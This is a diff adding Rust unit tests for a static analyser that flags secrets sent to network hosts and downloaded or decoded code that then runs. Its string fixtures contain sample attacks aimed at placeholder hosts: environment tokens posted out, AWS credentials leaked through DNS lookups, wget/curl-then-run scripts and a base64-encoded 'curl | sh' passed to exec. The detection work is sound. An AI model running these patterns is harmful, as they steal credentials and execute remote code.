@@ -1,0 +1,120 @@
+use std::time::Duration;
+
+use super::*;
+use crate::engine::rules::RuleSet;
+
+fn services() -> &'static Services {
+    static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
+    &RULES.get_or_init(|| RuleSet::builtin().expect("built-in rules")).services
+}
+
+fn facts_with(lang: Lang, code: &str, foreign: &[SinkFunction]) -> CodeFacts {
+    let tree = crate::engine::lang::syntax::parse(lang, code, 1 << 20, Duration::from_secs(5)).unwrap().unwrap();
+    analyse(lang, &tree, code, services(), foreign)
+}
+
+fn facts(lang: Lang, code: &str) -> CodeFacts {
+    facts_with(lang, code, &[])
+}
+
+fn flow_summary(f: &Flow) -> (Vec<String>, Option<String>, Channel) {
+    (f.sources.iter().map(|s| s.secret.to_string()).collect(), f.host.clone(), f.channel)
+}
+
+#[test]
+fn python_env_secret_by_name_through_variables_to_a_resolved_host() {
+    let code = "import os, requests\nBASE = 'https://collector.example.invalid'\ntok = os.environ['NPM_TOKEN']\npayload = {'t': tok}\nrequests.post(BASE + '/u', json=payload)\n";
+    let f = facts(Lang::Python, code);
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    let (secrets, host, channel) = flow_summary(&f.flows[0]);
+    assert_eq!(secrets, ["NPM_TOKEN (npm)"]);
+    assert_eq!(host.as_deref(), Some("collector.example.invalid"));
+    assert_eq!(channel, Channel::Body);
+    assert!(f.endpoints.iter().any(|e| e.host == "collector.example.invalid" && e.through_variable));
+}
+
+#[test]
+fn own_key_in_a_header_names_the_vendor_host() {
+    let code = "import os, requests\nAPI = 'https://api.acmeweather.example.com/v2'\nkey = os.getenv('ACMEWEATHER_API_KEY')\nr = requests.get(f'{API}/now', headers={'Authorization': f'Bearer {key}'})\n";
+    let f = facts(Lang::Python, code);
+    assert_eq!(f.flows.len(), 1);
+    let (secrets, host, channel) = flow_summary(&f.flows[0]);
+    assert_eq!(secrets, ["ACMEWEATHER_API_KEY (acmeweather)"]);
+    assert_eq!(host.as_deref(), Some("api.acmeweather.example.com"));
+    assert_eq!(channel, Channel::Header);
+}
+
+#[test]
+fn javascript_env_reads_destructuring_and_helpers() {
+    let js = "const { GITHUB_TOKEN } = process.env;\nconst aws = process.env.AWS_SECRET_ACCESS_KEY;\nasync function beacon(data) { await fetch('https://metrics.example.invalid/b', { method: 'POST', body: JSON.stringify(data) }); }\nbeacon({ g: GITHUB_TOKEN, a: aws });\n";
+    let f = facts(Lang::Javascript, js);
+    assert_eq!(f.flows.len(), 1, "{f:?}");
+    let (secrets, host, _) = flow_summary(&f.flows[0]);
+    assert_eq!(host.as_deref(), Some("metrics.example.invalid"));
+    assert!(secrets.iter().any(|s| s.starts_with("GITHUB_TOKEN")) && secrets.iter().any(|s| s.starts_with("AWS_")));
+    assert_eq!(f.sink_functions.len(), 1);
+}
+
+#[test]
+fn helper_functions_in_another_file_are_sinks() {
+    let foreign = [SinkFunction {
+        name: "report".into(),
+        url: Some("https://t.example.invalid/r".into()),
+        host: Some("t.example.invalid".into()),
+        channel: Channel::Body,
+    }];
+    let code = "import os\nfrom helpers import report\nreport(os.environ.get('OPENAI_API_KEY'))\n";
+    let f = facts_with(Lang::Python, code, &foreign);
+    assert_eq!(f.flows.len(), 1);
+    assert_eq!(f.flows[0].host.as_deref(), Some("t.example.invalid"));
+}
+
+#[test]
+fn shell_secrets_dns_labels_and_fetched_files() {
+    let sh = "API=https://api.example.invalid\ncurl -s -H \"Authorization: token $GITHUB_TOKEN\" \"$API/v1\"\n";
+    let f = facts(Lang::Shell, sh);
+    assert_eq!(f.flows.len(), 1);
+    assert_eq!(f.flows[0].host.as_deref(), Some("api.example.invalid"));
+    assert_eq!(f.flows[0].channel, Channel::Header);
+
+    let dns =
+        "K=$(cat ~/.aws/credentials | base32 | tr -d =)\nfor c in $K; do dig \"${c}.x.example.invalid\" TXT; done\n";
+    let f = facts(Lang::Shell, dns);
+    assert!(
+        f.flows.iter().any(|fl| fl.channel == Channel::Dns && fl.host.as_deref() == Some("x.example.invalid")),
+        "{f:?}"
+    );
+
+    let run = "wget -q https://dl.example.invalid/tool.sh -O /tmp/.t\nchmod +x /tmp/.t\n/tmp/.t --quiet\n";
+    let f = facts(Lang::Shell, run);
+    assert_eq!(f.fetched_runs.len(), 1, "{f:?}");
+    assert_eq!(f.fetched_runs[0].file, "/tmp/.t");
+    let run2 = "F=setup.bin\ncurl -fsSLo $F https://dl.example.invalid/s && bash $F\n";
+    assert_eq!(facts(Lang::Shell, run2).fetched_runs.len(), 1);
+    let redirect = "curl -s https://dl.example.invalid/i.sh > i.sh\nsh i.sh\n";
+    assert_eq!(facts(Lang::Shell, redirect).fetched_runs.len(), 1);
+    let data = "curl -s -o data.json https://api.example.com/items\njq . data.json\n";
+    assert!(facts(Lang::Shell, data).fetched_runs.is_empty());
+}
+
+#[test]
+fn decoded_or_downloaded_code_executed_later() {
+    let py = "import base64\nblob = 'Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkIHwgc2g='\ncmd = base64.b64decode(blob).decode()\nexec(cmd)\n";
+    let f = facts(Lang::Python, py);
+    assert_eq!(f.dynamic_execs.len(), 1);
+    assert_eq!(f.dynamic_execs[0].what, "decoded");
+    let js = "const r = await fetch(u);\nconst src = await r.text();\neval(src);\n";
+    assert_eq!(facts(Lang::Javascript, js).dynamic_execs.len(), 1);
+    let benign = "import json\ncfg = json.loads(open('c.json').read())\nprint(cfg)\n";
+    assert!(facts(Lang::Python, benign).dynamic_execs.is_empty());
+    let py_run = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://dl.example.invalid/a.bin', '/tmp/a.bin')\nsubprocess.run(['/tmp/a.bin'])\n";
+    assert_eq!(facts(Lang::Python, py_run).fetched_runs.len(), 1);
+}
+
+#[test]
+fn declared_names_that_are_not_secrets_do_not_taint() {
+    let code = "import os, requests\nurl = os.environ.get('SERVICE_URL')\nregion = os.getenv('AWS_REGION')\nrequests.post('https://x.example.invalid', json={'r': region, 'u': url})\n";
+    assert!(facts(Lang::Python, code).flows.is_empty());
+    let child = "import os, subprocess, requests\nsubprocess.run(cmd, env=os.environ.copy())\nrequests.post(U, json={'ok': 1})\n";
+    assert!(facts(Lang::Python, child).flows.is_empty());
+}
